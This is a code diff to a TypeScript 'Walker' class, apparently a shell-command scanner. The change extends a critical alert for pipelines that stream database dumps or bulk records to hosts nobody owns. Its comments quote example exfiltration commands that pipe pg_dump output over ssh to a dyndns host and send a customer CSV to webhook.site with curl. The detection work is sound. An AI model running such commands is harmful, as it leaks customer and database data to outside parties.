@@ -552,10 +552,15 @@ class Walker {
             .find((name) => RAW_SENDERS.has(name));
     if (dumpSender !== undefined)
       this.scan.add('critical', `shell: sends a database dump over the network (${summaries[dumper].name} | ${dumpSender})`);
-    // `pg_dump … | gzip | ssh me@home.dyndns.org 'cat > d.gz'`: ssh is a backup channel, but not to a host nobody here owns.
-    const foreign = dumper < 0 || dumpSender !== undefined ? undefined : summaries.slice(dumper + 1).find((summary) => summary.foreignHost);
+    // `pg_dump … | gzip | ssh me@home.dyndns.org 'cat > d.gz'`, `cat exports/customers.csv | curl -d @- https://webhook.site/…`:
+    // records in bulk streamed to a host nobody here owns (ssh is a backup channel, but not to such a host).
+    const source = dumpSender !== undefined ? -1 : summaries.findIndex((summary, i) => i === dumper || summary.readsBulk !== undefined);
+    const foreign = source < 0 ? undefined : summaries.slice(source + 1).find((summary) => summary.foreignHost !== undefined);
     if (foreign !== undefined)
-      this.scan.add('critical', `shell: sends a database dump to a ${foreign.foreignHost} (${summaries[dumper].name} | ${foreign.name})`);
+      this.scan.add(
+        'critical',
+        `shell: sends ${summaries[source].readsBulk ?? 'a database dump'} to a ${foreign.foreignHost} (${summaries[source].name} | ${foreign.name})`,
+      );
     const joined = joinSummaries(summaries);
     joined.output = summaries[summaries.length - 1]?.output;
     joined.downloader = stdinFromDownload;
